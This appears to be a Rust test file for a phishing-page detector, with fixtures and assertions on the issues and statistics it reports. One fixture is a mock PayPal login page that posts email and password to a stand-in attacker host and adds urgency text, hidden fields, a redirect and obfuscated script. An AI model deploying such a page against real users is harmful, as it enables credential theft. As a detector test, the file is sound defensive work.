//! End-to-end HTML analysis against realistic page fixtures.

use phishscan::{evaluate_html, evaluate_html_with_origin};

/// A credential-harvesting page stitched together from the classic
/// tells: fake login form, urgency copy, brand mention, redirect.
const PHISHING_PAGE: &str = r#"<!DOCTYPE html>
<html>
<head>
  <title>Account Verification</title>
  <meta http-equiv="refresh" content="30;url=https://totally-not-evil.example/done">
</head>
<body>
  <h1>PayPal Security Alert</h1>
  <p>URGENT: your account will be suspended. Verify now to avoid interruption.</p>
  <p>&#x1F512; This page is 100% secure.</p>
  <form action="https://collector.evil.example/grab" method="post">
    <input type="text" name="email" placeholder="Email">
    <input type="password" name="password" placeholder="Password">
    <input type="hidden" name="session" value="a">
    <input type="hidden" name="token" value="b">
    <input type="hidden" name="tracking" value="c">
    <button>Log In</button>
  </form>
  <script>
    document.write(unescape("%3Cdiv%3E"));
  </script>
</body>
</html>"#;

const LEGITIMATE_PAGE: &str = r#"<!DOCTYPE html>
<html>
<head><title>Reference Documentation</title></head>
<body>
  <h1>Getting started</h1>
  <p>Install the package and read the guide below.</p>
  <form action="/search"><input type="text" name="q"></form>
  <script>console.log("page loaded");</script>
  <a href="https://docs.example.org/guide">Guide</a>
</body>
</html>"#;

#[test]
fn test_phishing_page_triggers_multiple_families() {
    let verdict = evaluate_html(PHISHING_PAGE);
    assert!(!verdict.safe);

    let has = |needle: &str| verdict.issues.iter().any(|i| i.contains(needle));
    assert!(has("login/authentication form"), "issues: {:?}", verdict.issues);
    assert!(has("hidden form fields detected (3)"));
    assert!(has("Form submits to external domain"));
    assert!(has("dangerous JavaScript patterns"));
    assert!(has("Urgency/pressure language"));
    assert!(has("impersonation of: paypal"));
    assert!(has("redirects or location changes"));
}

#[test]
fn test_phishing_page_one_issue_per_family() {
    let verdict = evaluate_html(PHISHING_PAGE);
    let mut sorted = verdict.issues.clone();
    sorted.sort();
    sorted.dedup();
    assert_eq!(sorted.len(), verdict.issues.len(), "duplicate family issue");
}

#[test]
fn test_phishing_page_stats() {
    let verdict = evaluate_html(PHISHING_PAGE);
    assert_eq!(verdict.stats.forms, 1);
    assert_eq!(verdict.stats.scripts, 1);
    assert_eq!(verdict.stats.hidden_fields, 3);
}

#[test]
fn test_legitimate_page_is_safe_with_stats() {
    let verdict = evaluate_html(LEGITIMATE_PAGE);
    assert!(verdict.safe, "unexpected issues: {:?}", verdict.issues);
    assert_eq!(verdict.stats.forms, 1);
    assert_eq!(verdict.stats.scripts, 1);
    assert_eq!(verdict.stats.external_links, 1);
    assert_eq!(verdict.stats.hidden_fields, 0);
}

#[test]
fn test_origin_host_changes_only_form_action_family() {
    let html = r#"<form action="https://app.example.net/login"><input type="text"></form>"#;

    let anonymous = evaluate_html(html);
    assert!(anonymous
        .issues
        .contains(&"Form submits to external domain".to_string()));

    let own_site = evaluate_html_with_origin(html, Some("app.example.net"));
    assert!(!own_site
        .issues
        .contains(&"Form submits to external domain".to_string()));
}

#[test]
fn test_adversarial_input_never_panics() {
    // Robustness to arbitrary input is a hard requirement.
    let angle_flood = "<".repeat(10_000);
    let inputs = [
        "\u{0}\u{1}\u{2}",
        "<form",
        "<script>",
        "<<<<<>>>>>",
        "<form></form",
        "<input type=\"hidden\"",
        angle_flood.as_str(),
        "🔒🔒🔒",
        "<script><script><script></script>",
    ];
    for input in inputs {
        let v = evaluate_html(input);
        assert_eq!(v.safe, v.issues.is_empty());
    }
}
